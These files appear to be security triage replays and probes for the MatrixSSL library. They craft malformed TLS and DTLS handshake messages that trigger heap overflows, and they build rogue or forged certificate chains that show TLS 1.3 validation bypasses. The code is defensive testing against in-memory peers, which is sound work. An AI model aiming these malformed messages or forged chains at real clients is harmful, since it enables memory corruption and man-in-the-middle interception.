extern int32_t __real_psGetPrngLocked(unsigned char *bytes, psSize_t size, void *userPtr);
static int g_fail;
int32_t __wrap_psGetPrngLocked(unsigned char *bytes, psSize_t size, void *userPtr)
{
    if (g_fail) return PS_FAILURE;
    return __real_psGetPrngLocked(bytes, size, userPtr);
}
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char r1[4096], r2[4096];
    psCipher16_t suite = 0x002f; /* TLS_RSA_WITH_AES_128_CBC_SHA */
    int n1, n2;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_2, &suite, 1, h_certCb) < 0) return 2;
    if (h_handshake(&c, &s) != 0) { printf("handshake failed\n"); return 2; }
    g_fail = 1;
    n1 = h_send_app(&c, (unsigned char *) "first message...", 16, r1, sizeof(r1));
    n2 = h_send_app(&c, (unsigned char *) "second message..", 16, r2, sizeof(r2));
    printf("send 1 -> %d bytes, send 2 -> %d bytes (PRNG failing)\n", n1, n2);
    if (n1 <= 0 || n2 <= 0) { printf("OK: sending fails cleanly when the IV cannot be drawn\n"); return 0; }
    printf("IV1 = "); for (int i = 0; i < 16; i++) printf("%02x", r1[5 + i]);
    printf("\nIV2 = "); for (int i = 0; i < 16; i++) printf("%02x", r2[5 + i]); printf("\n");
    if (memcmp(r1 + 5, r2 + 5, 16) == 0) { printf("DEFECT: two CBC records sealed with the same explicit IV\n"); return 1; }
    printf("DEFECT: records were sent although no IV could be drawn (IV = stale buffer bytes)\n");
    return 1;
}
