/* Triage replay for C08.R1 (parseServerKeyExchange): a TLS 1.2 client negotiating DHE_RSA receives a ServerKeyExchange
   that ends right after dh_p.  The parser read the 2-byte length of dh_g past the end of the message without a check,
   the following `(uint32)(end - c) < dhGLen` test wraps (c > end) and Memcpy copies dhGLen bytes from beyond the
   received data.  AddressSanitizer: heap-buffer-overflow (READ) in parseServerKeyExchange.  exit 0: rejected cleanly. */
#include "harness.h"
#include "testkeys/DH/2048_DH_PARAMS.h"
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char w[1 << 16], out[1 << 16];
    psCipher16_t suite = 0x0067; /* TLS_DHE_RSA_WITH_AES_128_CBC_SHA256 */
    int n, off = 0, o = 0, rc, done = 0;
    if (h_server_keys(&s) < 0) return 2;
    if (matrixSslLoadDhParamsMem(s.keys, DHPARAM2048, sizeof(DHPARAM2048)) < 0) { printf("no DH params\n"); return 2; }
    if (h_new_server(&s, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_2, &suite, 1, h_certCbAllowAll) < 0) return 2;
    n = h_drain(&c, w, sizeof(w)); h_feed(&s, w, n);
    n = h_drain(&s, w, sizeof(w));
    printf("server flight: %d bytes\n", n);
    /* walk the records of the flight; cut the ServerKeyExchange (handshake type 12) right after dh_p */
    while (off + 5 <= n)
    {
        int rlen = (w[off + 3] << 8) | w[off + 4];
        unsigned char *h = w + off + 5;
        if (w[off] == 22 && h[0] == 12 && !done)
        {
            int plen = (h[4] << 8) | h[5];
            int newbody = 2 + plen;                      /* dh_p length + dh_p, nothing else */
            memcpy(out + o, w + off, 5);
            out[o + 3] = ((newbody + 4) >> 8) & 0xff; out[o + 4] = (newbody + 4) & 0xff;
            o += 5;
            out[o++] = 12; out[o++] = 0; out[o++] = (newbody >> 8) & 0xff; out[o++] = newbody & 0xff;
            memcpy(out + o, h + 4, newbody); o += newbody;
            printf("ServerKeyExchange cut from %d to %d body bytes (dh_p is %d bytes)\n", rlen - 4, newbody, plen);
            done = 1;
        }
        else
        {
            memcpy(out + o, w + off, 5 + rlen); o += 5 + rlen;
        }
        off += 5 + rlen;
    }
    if (!done) { printf("no ServerKeyExchange in the flight\n"); return 2; }
    rc = h_feed(&c, out, o);
    printf("client processed the mutated flight: rc=%d closed=%d\n", rc, c.closed);
    printf("OK: no out-of-bounds read detected\n");
    return 0;
}
