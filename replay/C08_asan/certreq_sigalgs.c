/* Triage replay for C08.R2 (parseCertificateRequest): a TLS 1.2 server that asks for client authentication sends a
   CertificateRequest whose supported_signature_algorithms list has 8000 entries.  The client stores every entry into
   ssl->sec.keySelect.peerSigAlgs[32] without a bound.  AddressSanitizer: heap-buffer-overflow (WRITE) in
   parseCertificateRequest.  exit 0: message rejected or list truncated safely. */
#include "harness.h"
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char w[1 << 16], out[1 << 17];
    psCipher16_t suite = 0x003c;
    sslSessOpts_t o;
    int n, off = 0, o_ = 0, rc, done = 0, i, nalg = 8000;
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2;
    if (h_server_keys(&s) < 0) return 2;
    if (matrixSslNewServerSession(&s.ssl, s.keys, h_certCbAllowAll, &o) < 0) return 2;      /* certCb => client auth requested */
    if (h_new_client(&c, SSL_FLAGS_TLS_1_2, &suite, 1, h_certCbAllowAll) < 0) return 2;
    n = h_drain(&c, w, sizeof(w)); h_feed(&s, w, n);
    n = h_drain(&s, w, sizeof(w));
    while (off + 5 <= n)
    {
        int rlen = (w[off + 3] << 8) | w[off + 4];
        unsigned char *h = w + off + 5;
        if (w[off] == 22 && h[0] == 13 && !done)
        {
            int body = 1 + 1 + 2 + 2 * nalg + 2;
            memcpy(out + o_, w + off, 3); o_ += 3;
            out[o_++] = ((body + 4) >> 8) & 0xff; out[o_++] = (body + 4) & 0xff;
            out[o_++] = 13; out[o_++] = 0; out[o_++] = (body >> 8) & 0xff; out[o_++] = body & 0xff;
            out[o_++] = 1; out[o_++] = 1;
            out[o_++] = ((2 * nalg) >> 8) & 0xff; out[o_++] = (2 * nalg) & 0xff;
            for (i = 0; i < nalg; i++) { out[o_++] = 4; out[o_++] = 1; }
            out[o_++] = 0; out[o_++] = 0;
            printf("CertificateRequest rewritten: %d signature algorithms (original message %d bytes)\n", nalg, rlen - 4);
            done = 1;
        }
        else { memcpy(out + o_, w + off, 5 + rlen); o_ += 5 + rlen; }
        off += 5 + rlen;
    }
    if (!done) { printf("no CertificateRequest in the server flight\n"); return 2; }
    rc = h_feed(&c, out, o_);
    printf("client processed the flight: rc=%d closed=%d peerSigAlgsLen=%d\n", rc, c.closed, 0);
    printf("OK: no out-of-bounds write detected\n");
    return 0;
}
