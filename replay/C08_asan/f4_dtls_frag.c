/* Triage replay for C08.R1f (F4): a DTLS client in the ServerHello-wait state receives ONE short datagram whose
   handshake header claims a fragment of 59000 bytes of a 60000-byte message.  parseSSLHandshake checks the fragment
   against the reassembly buffer but not against the bytes present in the record, and copies 59000 bytes out of the
   ~1500-byte input buffer.  Built with AddressSanitizer: heap-buffer-overflow (READ) in parseSSLHandshake.
   exit 0: datagram rejected cleanly. */
#include "harness.h"
int main(void)
{
    hPeer c = {0};
    static unsigned char w[4096];
    unsigned char d[64];
    int n, i = 0, rc;
    if (h_new_client(&c, SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2, NULL, 0, h_certCbAllowAll) < 0) return 2;
    n = h_drain(&c, w, sizeof(w));          /* ClientHello out */
    printf("client sent %d bytes of ClientHello\n", n);
    /* DTLS record header: handshake, DTLS 1.2, epoch 0, seq 0, length 12 + 4 */
    d[i++] = 22; d[i++] = 0xfe; d[i++] = 0xfd; d[i++] = 0; d[i++] = 0;
    d[i++] = 0; d[i++] = 0; d[i++] = 0; d[i++] = 0; d[i++] = 0; d[i++] = 0;
    d[i++] = 0; d[i++] = 16;
    /* handshake header: ServerHello(2), length 60000, msg_seq 0, frag_offset 0, frag_length 59000 */
    d[i++] = 2; d[i++] = 0x00; d[i++] = 0xea; d[i++] = 0x60;
    d[i++] = 0; d[i++] = 0;
    d[i++] = 0; d[i++] = 0; d[i++] = 0;
    d[i++] = 0x00; d[i++] = 0xe6; d[i++] = 0x78;
    d[i++] = 1; d[i++] = 2; d[i++] = 3; d[i++] = 4;     /* the 4 bytes that are really there */
    rc = h_feed(&c, d, i);
    printf("fed a %d-byte datagram claiming a 59000-byte fragment: rc=%d closed=%d\n", i, rc, c.closed);
    printf("OK: no out-of-bounds read detected\n");
    return 0;
}
