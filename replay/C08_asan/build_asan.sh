#!/bin/sh
# usage: build_asan.sh <git rev of /repo | WORKTREE> -> AddressSanitizer build of the libraries under /tmp/asan_tree
REV=${1:-HEAD}; T=/tmp/asan_tree
rm -rf $T; mkdir -p $T
if [ "$REV" = "WORKTREE" ]; then
  (cd /repo && tar cf - --exclude='*.o' --exclude='*.a' --exclude='*.map' --exclude=.git Makefile common.mk makefiles core crypto matrixssl configs testkeys) | (cd $T && tar xf -)
else
  git -C /repo archive $REV | (cd $T && tar xf -)
  for f in crypto/cryptoConfig.h matrixssl/matrixsslConfig.h core/config/coreConfig.h; do [ -f /repo/$f ] && cp /repo/$f $T/$f; done
fi
make -C $T libs CFLAGS_EXTRA="-fsanitize=address -g -O1 -fno-omit-frame-pointer" > /tmp/asan_build.log 2>&1 || { tail /tmp/asan_build.log; exit 2; }
echo built $T
