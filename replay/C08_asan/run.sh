#!/bin/sh
# usage: run.sh <demo.c> [rev]   builds the ASan tree of [rev] (default HEAD) unless /tmp/asan_tree/.rev matches, runs the demo
D=$(dirname $0); REV=$(git -C /repo rev-parse ${2:-HEAD}); T=/tmp/asan_tree
if [ ! -f $T/.rev ] || [ "$(cat $T/.rev)" != "$REV" ]; then sh $D/build_asan.sh $REV || exit 2; echo $REV > $T/.rev; fi
n=$(basename $1 .c)
cc -fsanitize=address -g -w -o /tmp/$n $1 -I/verif/replay -I$T -I$T/core/config -I$T/core/include -I$T/core/osdep/include \
   -I$T/core/include/sfzcl $T/matrixssl/libssl_s.a $T/crypto/libcrypt_s.a $T/core/libcore_s.a -lpthread || exit 2
ASAN_OPTIONS=detect_leaks=0 /tmp/$n 2>&1 | grep -v "^    #[4-9]\|^    #[1-9][0-9]\|^  0x\|^=>\|Shadow\|^  [A-Z][a-z].*:  *[0-9a-f][0-9a-f]$" | head -40
