#!/bin/sh
# usage: sh build_probes.sh /path/to/worktree [extra cflags]
W=${1:-/tmp/seed12_C03}
S=$(cd "$(dirname "$0")" && pwd)
shift
for src in "$S"/probe*.c; do
  out="$S/$(basename "$src" .c)"
  cc -O0 -g -Wall -Wno-unused-function "$@" \
   -I"$W" -I"$W/core/config" -I"$W/core/include" -I"$W/core/osdep/include" \
   -I"$W/core/include/sfzcl" -I"$S" \
   -DUSE_CL_PKCS -DUSE_CL_CERTLIB \
   -o "$out" "$src" \
   "$W/matrixssl/libssl_s.a" "$W/crypto/libcrypt_s.a" "$W/core/libcore_s.a" \
   -lpthread || exit 1
  echo "built $out"
done
