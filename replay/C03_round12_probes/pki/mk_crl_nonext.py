#!/usr/bin/env python3
# Removes nextUpdate from ../../pki/crl_utc.der and re-signs the TBSCertList
# with ../../pki/ca.key (sha256WithRSA).  Output: crl_nonext.der
import subprocess
def rd(b, off):
    tag = b[off]; l = b[off+1]; hl = 2
    if l & 0x80:
        n = l & 0x7f; l = int.from_bytes(b[off+2:off+2+n], 'big'); hl = 2 + n
    return tag, hl, l
def enc(tag, content):
    n = len(content)
    if n < 0x80: return bytes([tag, n]) + content
    lb = n.to_bytes((n.bit_length()+7)//8, 'big')
    return bytes([tag, 0x80 | len(lb)]) + lb + content
der = open('../../pki/crl_utc.der','rb').read()
t, hl, l = rd(der, 0); body = der[hl:hl+l]
t, thl, tl = rd(body, 0); tbs = body[thl:thl+tl]; rest = body[thl+tl:]
off = 0; parts = []
while off < len(tbs):
    t, h, l = rd(tbs, off); parts.append(tbs[off:off+h+l]); off += h + l
# version, sigalg, issuer, thisUpdate, nextUpdate, revoked, [0] ext
assert parts[3][0] == 0x17 and parts[4][0] == 0x17
del parts[4]
newtbs = enc(0x30, b''.join(parts))
open('tbs.bin','wb').write(newtbs)
subprocess.check_call(['openssl','dgst','-sha256','-sign','../../pki/ca.key','-out','sig.bin','tbs.bin'])
sig = open('sig.bin','rb').read()
t, h, l = rd(rest, 0); alg = rest[:h+l]
crl = enc(0x30, newtbs + alg + enc(0x03, b'\x00' + sig))
open('crl_nonext.der','wb').write(crl)
