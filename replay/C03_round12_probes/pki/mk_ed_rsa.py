#!/usr/bin/env python3
# Rewrites rleaf.der (issued by the RSA key "rogue") so that both
# AlgorithmIdentifiers say Ed25519 (1.3.101.112) and the signature is a raw
# RSA block 00 01 00 || 253 x 'A' made with rogue.key.  Output: edleaf.der
import subprocess, sys

def rd(b, off):
    tag = b[off]; l = b[off+1]; hl = 2
    if l & 0x80:
        n = l & 0x7f; l = int.from_bytes(b[off+2:off+2+n], 'big'); hl = 2 + n
    return tag, hl, l

def enc(tag, content):
    n = len(content)
    if n < 0x80: return bytes([tag, n]) + content
    lb = n.to_bytes((n.bit_length()+7)//8, 'big')
    return bytes([tag, 0x80 | len(lb)]) + lb + content

der = open('rleaf.der','rb').read()
t, hl, l = rd(der, 0); body = der[hl:hl+l]
t, thl, tl = rd(body, 0); tbs = body[thl:thl+tl]
# walk tbs: [0] version, serial, signature AlgId, rest
off = 0; parts = []
while off < len(tbs):
    t, h, l = rd(tbs, off); parts.append(tbs[off:off+h+l]); off += h + l
ED = bytes.fromhex('300506032b6570')
assert parts[2][0] == 0x30
parts[2] = ED
newtbs = enc(0x30, b''.join(parts))
keybytes = 256
block = b'\x00\x01\x00' + b'A' * (keybytes - 3)
open('block.bin','wb').write(block)
subprocess.check_call(['openssl','pkeyutl','-decrypt','-inkey','rogue.key','-in','block.bin',
    '-out','rawsig.bin','-pkeyopt','rsa_padding_mode:none'])
sig = open('rawsig.bin','rb').read()
assert len(sig) == keybytes
cert = enc(0x30, newtbs + ED + enc(0x03, b'\x00' + sig))
open('edleaf.der','wb').write(cert)
print('edleaf.der', len(cert), 'bytes, tbs', len(newtbs))
