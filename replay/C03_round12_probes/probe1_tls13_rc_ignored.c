/*
 * Side probe 1 (unmodified code): the TLS 1.3 certificate path discards the
 * return code of matrixValidateCertsExt (tls13Authenticate.c,
 * matrixSslValidatePeerCerts: "rc = psCheckValidationResult(...)" overwrites
 * it) and decides from the per-certificate authStatus only.
 * psX509AuthenticateCert has one exit that returns an error WITHOUT setting
 * any authStatus: the issuer has no keyUsage extension and issuedBefore()
 * returns -1 because its notBefore is earlier than 1996
 * ("return PS_PARSE_FAIL" in the keyCertSign block).  matrixValidateCertsExt
 * then returns before the chain is ever compared with the trust anchors.
 *
 * Chain sent by the server: [ rleaf (CN=localhost), rogue ]
 *   rogue: self-signed, CA:TRUE, no keyUsage, notBefore 1995-01-01
 *   rleaf: signed by rogue
 * The client trusts only ../pki/ca.der, which has nothing to do with rogue.
 *
 * usage: probe1 <dir with ca.der> <dir with rogue.der rleaf.der rleaf.key.der>
 * exit 1 when a client accepts the rogue chain.
 */
#include "hs_common.h"

int main(int argc, char **argv)
{
    sslKeys_t *skeys = NULL, *ckeys = NULL;
    unsigned char *ca, *rogue, *rleaf, *rkey;
    int32 caLen, rogueLen, rleafLen, rkeyLen, rc;
    psX509Cert_t *rogueCert = NULL, *found = NULL;
    int bad = 0, ok;

    if (argc < 3)
    {
        printf("usage\n");
        return 2;
    }
    ca = readFile(argv[1], "ca.der", &caLen);
    rogue = readFile(argv[2], "rogue.der", &rogueLen);
    rleaf = readFile(argv[2], "rleaf.der", &rleafLen);
    rkey = readFile(argv[2], "rleaf.key.der", &rkeyLen);

    if (matrixSslOpen() < 0)
    {
        return 2;
    }

    /* 0. Direct call, to show what matrixValidateCerts says. */
    {
        psX509Cert_t *chain = NULL, *anchor = NULL, *second = NULL;
        psX509ParseCert(NULL, rleaf, rleafLen, &chain, 0);
        psX509ParseCert(NULL, rogue, rogueLen, &second, 0);
        psX509ParseCert(NULL, ca, caLen, &anchor, 0);
        chain->next = second;
        rc = matrixValidateCerts(NULL, chain, anchor, NULL, &found, NULL, NULL);
        printf("[0] matrixValidateCerts([rleaf, rogue], {ca}) = %d, "
            "authStatus: rleaf=%d rogue=%d\n", (int) rc,
            (int) chain->authStatus, (int) second->authStatus);
        psX509FreeCert(chain);
        psX509FreeCert(anchor);
    }

    matrixSslNewKeys(&skeys, NULL);
    matrixSslNewKeys(&ckeys, NULL);
    /* The server is the attacker. Its own library would refuse to load this
       chain (verifyReadKeyPair), a real attacker has no such problem: load
       the leaf alone and append the rogue CA by hand. */
    rc = matrixSslLoadKeysMem(skeys, rleaf, rleafLen, rkey, rkeyLen, NULL, 0,
        NULL);
    if (rc < 0)
    {
        printf("server load keys: %d\n", (int) rc);
        return 2;
    }
    if (psX509ParseCert(skeys->pool, rogue, rogueLen, &rogueCert,
            CERT_STORE_UNPARSED_BUFFER) < 0)
    {
        printf("rogue parse failed\n");
        return 2;
    }
    skeys->identity->cert->next = rogueCert;

    rc = matrixSslLoadKeysMem(ckeys, NULL, 0, NULL, 0, ca, caLen, NULL);
    if (rc < 0)
    {
        printf("client load keys: %d\n", (int) rc);
        return 2;
    }

    printf("[1] TLS 1.2, client trusts only ca.der, no certificate callback\n");
    ok = runHandshake(skeys, ckeys, v_tls_1_2, "localhost", NULL, NULL);
    if (ok)
    {
        printf("  VIOLATION: TLS 1.2 client accepted the rogue chain\n");
        bad++;
    }
    printf("[2] TLS 1.3, client trusts only ca.der, no certificate callback\n");
    ok = runHandshake(skeys, ckeys, v_tls_1_3, "localhost", NULL, NULL);
    if (ok)
    {
        printf("  VIOLATION: TLS 1.3 client completed the handshake with a "
            "server whose chain [rleaf, rogue] has no path to any trust "
            "anchor\n");
        bad++;
    }
    matrixSslDeleteKeys(skeys);
    matrixSslDeleteKeys(ckeys);
    matrixSslClose();
    printf("RESULT: %s\n", bad ? "property violated on this tree" : "ok");
    return bad ? 1 : 0;
}
