/*
 * Side probe 3 (unmodified code): empty trust-anchor set.
 *
 * With no CA certificates loaded matrixValidateCertsExt calls
 * psX509AuthenticateCert(chain, NULL, ...).  For the last certificate of the
 * chain that function runs its "self-signed test" with ic == sc (the same
 * object).  If the certificate is NOT self-signed the DN comparison fails and
 * the ALLOW_INTERMEDIATES_AS_ROOTS comparison is evaluated - of the
 * certificate with itself - which is trivially true, so the code jumps to
 * L_INTERMEDIATE_ROOT and reports PS_CERT_AUTH_PASS without verifying any
 * signature ("Info: not a self-signed certificate" is unreachable).
 *
 * TLS 1.2 (hsDecode.c parseCertificate) compensates with an explicit
 * "keys->CAcerts == NULL -> unknown_ca" test.  The TLS 1.3 path
 * (tls13Authenticate.c) has no such test: a TLS 1.3 client that has no trust
 * anchors and no certificate callback accepts every server certificate.
 *
 * usage: probe3 <dir with good.der good.key.der>
 * exit 1 when a client without trust anchors completes a handshake.
 */
#include "hs_common.h"

int main(int argc, char **argv)
{
    sslKeys_t *skeys = NULL, *ckeys = NULL;
    unsigned char *cert, *key;
    int32 certLen, keyLen, rc;
    psX509Cert_t *c = NULL, *found = NULL;
    int bad = 0;

    if (argc < 2)
    {
        return 2;
    }
    cert = readFile(argv[1], "good.der", &certLen);
    key = readFile(argv[1], "good.key.der", &keyLen);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    psX509ParseCert(NULL, cert, certLen, &c, 0);
    rc = psX509AuthenticateCert(NULL, c, NULL, &found, NULL, NULL);
    printf("[0] psX509AuthenticateCert(good, NULL) on a certificate that is "
        "not self-signed: rc=%d authStatus=%d\n", (int) rc,
        (int) c->authStatus);
    rc = matrixValidateCerts(NULL, c, NULL, NULL, &found, NULL, NULL);
    printf("    matrixValidateCerts(good, no anchors) = %d authStatus=%d\n",
        (int) rc, (int) c->authStatus);
    if (rc >= 0 && c->authStatus == PS_CERT_AUTH_PASS)
    {
        printf("  VIOLATION: validation with an empty trust-anchor set "
            "reports success\n");
        bad++;
    }
    psX509FreeCert(c);

    matrixSslNewKeys(&skeys, NULL);
    matrixSslNewKeys(&ckeys, NULL);
    rc = matrixSslLoadKeysMem(skeys, cert, certLen, key, keyLen, NULL, 0, NULL);
    if (rc < 0)
    {
        printf("server load keys: %d\n", (int) rc);
        return 2;
    }
    printf("[1] TLS 1.2, client has NO trust anchors and no callback\n");
    if (runHandshake(skeys, ckeys, v_tls_1_2, "localhost", NULL, NULL))
    {
        printf("  VIOLATION: TLS 1.2 client accepted\n");
        bad++;
    }
    printf("[2] TLS 1.3, client has NO trust anchors and no callback, "
        "expectedName \"some.other.host\"\n");
    if (runHandshake(skeys, ckeys, v_tls_1_3, "some.other.host", NULL, NULL))
    {
        printf("  VIOLATION: TLS 1.3 client without any trust anchor "
            "completed the handshake (and the name was not checked)\n");
        bad++;
    }
    matrixSslDeleteKeys(skeys);
    matrixSslDeleteKeys(ckeys);
    matrixSslClose();
    printf("RESULT: %s\n", bad ? "property violated on this tree" : "ok");
    return bad ? 1 : 0;
}
