#!/bin/sh
# Emits C arrays for the demo from the files in this directory.
# usage: sh mkdata.sh > ../demo_data.inc
cd "$(dirname "$0")" || exit 1
emit() { # name file
    printf 'static const unsigned char %s[] = {\n' "$1"
    xxd -i < "$2"
    printf '};\n'
}
openssl rsa -in leaf.key -outform DER -traditional -out leaf.key.der 2>/dev/null
openssl rsa -in good.key -outform DER -traditional -out good.key.der 2>/dev/null
emit ca_der ca.der
emit leaf_der leaf.der
emit leaf_key_der leaf.key.der
emit good_der good.der
emit good_key_der good.key.der
emit crl_utc_der crl_utc.der
emit crl_long_der crl_long.der
