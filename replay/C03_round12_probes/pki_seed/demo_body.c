
static int g_violations = 0;
static int g_harness_errors = 0;

#define VIOLATION(...) do { g_violations++; printf("  VIOLATION: " __VA_ARGS__); printf("\n"); } while (0)
#define HARNESS(...)   do { g_harness_errors++; printf("  HARNESS ERROR: " __VA_ARGS__); printf("\n"); } while (0)

/******************************************************************************/
/* Load a CRL the way an application does: parse, authenticate against the
   trust anchor, put into the library cache. */
static int load_crl(psX509Cert_t *ca, const unsigned char *der, int32 derLen)
{
    psX509Crl_t *crl = NULL;
    unsigned char *copy;
    int32 rc;

    copy = malloc(derLen);
    if (copy == NULL)
    {
        return -1;
    }
    memcpy(copy, der, derLen);
    rc = psX509ParseCRL(NULL, &crl, copy, derLen);
    free(copy);
    if (rc < 0 || crl == NULL)
    {
        HARNESS("psX509ParseCRL failed: %d", (int) rc);
        return -1;
    }
    rc = psX509AuthenticateCRL(ca, crl, NULL);
    if (rc != PS_SUCCESS || crl->authenticated != 1)
    {
        HARNESS("psX509AuthenticateCRL failed: rc=%d authenticated=%d",
            (int) rc, (int) crl->authenticated);
        psX509FreeCRL(crl);
        return -1;
    }
    if (psCRL_Update(crl, 1) != 1)
    {
        HARNESS("psCRL_Update did not add the CRL");
        psX509FreeCRL(crl);
        return -1;
    }
    return 0;
}

/******************************************************************************/
/* Part A: matrixValidateCerts on a single end-entity certificate. */
static void direct_check(const char *crlName,
    const unsigned char *crlDer, int32 crlLen,
    const char *subjName,
    const unsigned char *subjDer, int32 subjLen,
    int revokedInCrl)
{
    psX509Cert_t *ca = NULL, *subj = NULL, *found = NULL;
    int32 rc;
    int accepted;

    printf("[A] matrixValidateCerts(%s) with %s loaded and authenticated\n",
        subjName, crlName);
    if (psX509ParseCert(NULL, ca_der, sizeof(ca_der), &ca, 0) < 0 ||
        psX509ParseCert(NULL, subjDer, subjLen, &subj, 0) < 0)
    {
        HARNESS("certificate parse failed");
        goto out;
    }
    if (load_crl(ca, crlDer, crlLen) < 0)
    {
        goto out;
    }
    rc = matrixValidateCerts(NULL, subj, ca, NULL, &found, NULL, NULL);
    accepted = (rc >= 0 && subj->authStatus == PS_CERT_AUTH_PASS);
    printf("  rc=%d authStatus=%d revokedStatus=%d -> %s\n",
        (int) rc, (int) subj->authStatus, (int) subj->revokedStatus,
        accepted ? "ACCEPTED" : "rejected");
    if (revokedInCrl && accepted)
    {
        VIOLATION("%s (serial listed in the authenticated CRL %s) was "
            "accepted; revokedStatus=%d%s", subjName, crlName,
            (int) subj->revokedStatus,
            subj->revokedStatus == CRL_CHECK_CRL_EXPIRED ?
            " (the library treats the CRL as expired although its "
            "nextUpdate is decades ahead)" : "");
    }
    if (revokedInCrl && !accepted &&
        subj->authStatus != PS_CERT_AUTH_FAIL_REVOKED)
    {
        HARNESS("%s rejected, but not because of revocation (rc=%d "
            "authStatus=%d)", subjName, (int) rc, (int) subj->authStatus);
    }
    if (!revokedInCrl && !accepted)
    {
        VIOLATION("%s (not revoked, valid chain) was rejected while %s "
            "is loaded: rc=%d authStatus=%d", subjName, crlName, (int) rc,
            (int) subj->authStatus);
    }
out:
    psCRL_DeleteAll();
    psX509FreeCert(subj);
    psX509FreeCert(ca);
}

/******************************************************************************/
/* Part B: in-memory TLS 1.2 handshake. */
typedef struct
{
    ssl_t *ssl;
    int complete;
    int failed;          /* library returned an error */
    int alertSent;       /* alert description this side queued, -1 none */
    int alertRcvd;       /* alert description received, -1 none */
} side_t;

/* Move everything `from` has queued to `to`. Returns number of bytes moved. */
static int pump(side_t *from, side_t *to)
{
    unsigned char *out, *in, *pt;
    unsigned char tmp[18432];
    int32 outLen, inLen, rc, off, n;
    uint32 ptLen;
    int moved = 0;

    while ((outLen = matrixSslGetOutdata(from->ssl, &out)) > 0)
    {
        if (outLen > (int32) sizeof(tmp))
        {
            outLen = sizeof(tmp);
        }
        memcpy(tmp, out, outLen);
        /* An alert record in the clear: type 21, len 2 */
        if (!from->complete && outLen >= 7 && tmp[0] == 21 && tmp[3] == 0 &&
            tmp[4] == 2)
        {
            from->alertSent = tmp[6];
        }
        rc = matrixSslSentData(from->ssl, outLen);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            from->complete = 1;
        }
        moved += outLen;
        off = 0;
        while (off < outLen && !to->failed)
        {
            inLen = matrixSslGetReadbuf(to->ssl, &in);
            if (inLen <= 0)
            {
                to->failed = 1;
                break;
            }
            n = outLen - off;
            if (n > inLen)
            {
                n = inLen;
            }
            memcpy(in, tmp + off, n);
            off += n;
            rc = matrixSslReceivedData(to->ssl, n, &pt, &ptLen);
            for (;; )
            {
                if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
                {
                    to->complete = 1;
                    break;
                }
                else if (rc == MATRIXSSL_RECEIVED_ALERT)
                {
                    if (ptLen >= 2)
                    {
                        to->alertRcvd = pt[1];
                    }
                    rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                    if (to->alertRcvd >= 0)
                    {
                        to->failed = 1;
                        break;
                    }
                    continue;
                }
                else if (rc == MATRIXSSL_APP_DATA)
                {
                    rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                    continue;
                }
                else if (rc < 0)
                {
                    to->failed = 1;
                    break;
                }
                break; /* REQUEST_SEND, REQUEST_RECV, SUCCESS */
            }
        }
    }
    return moved;
}

static void handshake_check(const char *crlName,
    const unsigned char *crlDer, int32 crlLen,
    const char *subjName,
    const unsigned char *certDer, int32 certLen,
    const unsigned char *keyDer, int32 keyLen,
    int revokedInCrl)
{
    sslKeys_t *skeys = NULL, *ckeys = NULL;
    sslSessOpts_t sopts, copts;
    side_t s, c;
    psX509Cert_t *ca = NULL;
    int32 rc;
    int i;

    memset(&s, 0, sizeof(s));
    memset(&c, 0, sizeof(c));
    s.alertSent = s.alertRcvd = c.alertSent = c.alertRcvd = -1;

    printf("[B] TLS 1.2 handshake, server presents %s, client has %s "
        "loaded and authenticated\n", subjName, crlName);

    if (psX509ParseCert(NULL, ca_der, sizeof(ca_der), &ca, 0) < 0 ||
        load_crl(ca, crlDer, crlLen) < 0)
    {
        HARNESS("could not load the CRL");
        goto out;
    }
    if (matrixSslNewKeys(&skeys, NULL) < 0 || matrixSslNewKeys(&ckeys, NULL) < 0)
    {
        HARNESS("matrixSslNewKeys");
        goto out;
    }
    rc = matrixSslLoadKeysMem(skeys, certDer, certLen, keyDer, keyLen,
        NULL, 0, NULL);
    if (rc < 0)
    {
        HARNESS("server matrixSslLoadKeysMem: %d", (int) rc);
        goto out;
    }
    rc = matrixSslLoadKeysMem(ckeys, NULL, 0, NULL, 0, ca_der, sizeof(ca_der),
        NULL);
    if (rc < 0)
    {
        HARNESS("client matrixSslLoadKeysMem: %d", (int) rc);
        goto out;
    }
    memset(&sopts, 0, sizeof(sopts));
    memset(&copts, 0, sizeof(copts));
    matrixSslSessOptsSetServerTlsVersionRange(&sopts, v_tls_1_2, v_tls_1_2);
    matrixSslSessOptsSetClientTlsVersionRange(&copts, v_tls_1_2, v_tls_1_2);
    rc = matrixSslNewServerSession(&s.ssl, skeys, NULL, &sopts);
    if (rc < 0)
    {
        HARNESS("matrixSslNewServerSession: %d", (int) rc);
        goto out;
    }
    /* No certificate callback: the library's own verdict is final. */
    rc = matrixSslNewClientSession(&c.ssl, ckeys, NULL, NULL, 0, NULL,
        "localhost", NULL, NULL, &copts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        HARNESS("matrixSslNewClientSession: %d", (int) rc);
        goto out;
    }
    for (i = 0; i < 20; i++)
    {
        int moved = 0;
        moved += pump(&c, &s);
        moved += pump(&s, &c);
        if (moved == 0 || (c.complete && s.complete))
        {
            break;
        }
    }
    printf("  client: complete=%d failed=%d alertSent=%d; "
        "server: complete=%d alertRcvd=%d\n",
        c.complete, c.failed, c.alertSent, s.complete, s.alertRcvd);
    if (revokedInCrl)
    {
        if (c.complete)
        {
            VIOLATION("the client completed the handshake with a server "
                "whose certificate %s is listed in the authenticated CRL %s",
                subjName, crlName);
        }
        else if (c.alertSent != SSL_ALERT_CERTIFICATE_REVOKED)
        {
            HARNESS("client failed but did not send certificate_revoked "
                "(alert %d)", c.alertSent);
        }
    }
    else if (!c.complete || !s.complete)
    {
        VIOLATION("handshake with the non-revoked certificate %s failed "
            "while %s is loaded (client alert %d)", subjName, crlName,
            c.alertSent);
    }
out:
    if (s.ssl)
    {
        matrixSslDeleteSession(s.ssl);
    }
    if (c.ssl)
    {
        matrixSslDeleteSession(c.ssl);
    }
